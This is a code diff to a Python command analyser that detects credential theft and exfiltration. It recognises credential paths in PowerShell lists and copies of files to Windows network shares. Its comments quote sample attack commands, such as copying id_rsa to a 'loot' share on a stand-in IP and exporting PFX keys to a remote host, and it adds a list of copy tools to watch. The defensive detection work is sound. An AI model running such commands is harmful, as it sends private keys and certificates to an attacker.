@@ -695,6 +695,8 @@ class Analyser:
                     what = describe("orders a deploy", "", False, text)
                     self.out.add(Effect("deploy", "", what))
                     self.out.texts.append(text[:4096])
+        if _orders.mails_someone(text, words):
+            self.out.kinds.add("send")  # a message sent to an address: an outbound message
         for cmd in _orders.commands(text, self.table, words):
             self.text(cmd, "command")  # what the order says to run is judged as run
         for line in _orders.command_lines(text, self.table, words):
@@ -2351,7 +2353,9 @@ class Analyser:
         ):
             return ""
         for a in w.argv[1:]:
-            path = a[1:] if a.startswith("@") else a
+            # (PowerShell's lists, `-Include *.kdbx,*.pfx,id_rsa`: each item)
+            path = next((p for p in a.split(",", 16) if self.table.is_credential(p)), a)
+            path = path[1:] if path.startswith("@") else path
             if not path.startswith("-") and self.table.is_credential(path):
                 self.out.add(
                     Effect(
@@ -2634,6 +2638,12 @@ class Analyser:
             j.sinks.append(Sink(dest, [uploaded] if uploaded else [], False, w.text, argv, True))
         elif prog in _SESSION_CLIENTS and (sent := _session_upload(prog, argv)) is not None:
             j.sinks.append(Sink(sent[0], sent[1], False, w.text, argv))
+        elif prog in _UNC_COPIES and (dest := _unc_destination(argv, pos)):
+            # `copy id_rsa \\203.0.113.9\loot`, `… | Copy-Item -Destination \\host\share`: a
+            # share on that host (what is piped in goes when no file is named)
+            # (`Export-PfxCertificate -FilePath \\host\x.pfx`: the keys it writes there)
+            files = [dest] if prog.startswith("export-") else [p for p in pos if p != dest]
+            j.sinks.append(Sink(dest[2:].split("\\", 1)[0], files, not files, w.text, argv))
         elif prog in _COPY_SINKS and len(pos) >= 2:
             dest = pos[-1]
             m = _REMOTE_HOST.match(dest)
@@ -5069,6 +5079,18 @@ def _runner(t: EffectTable, argv: list[str]) -> str | None:
         if key in t.remote_runners:
             return key
     return None
+
+
+_UNC_COPIES: Final = frozenset({"copy", "xcopy", "robocopy", "copy-item", "cpi", "cp", "move",
+                          "move-item", "mi", "mv", "export-pfxcertificate",
+                          "export-certificate"})  # fmt: skip
+
+
+def _unc_destination(argv: list[str], pos: list[str]) -> str:
+    """Where a copy goes when it is a Windows share (`\\\\host\\share`), else ""."""
+    dest = _value_after(argv, ("-destination", "-Destination", "-dest", "-FilePath", "-filepath"))
+    dest = dest or (pos[-1] if pos else "")
+    return dest if dest.startswith("\\\\") and len(dest) > 2 and dest[2] != "?" else ""
 
 
 def _noexec(argv: list[str]) -> bool:
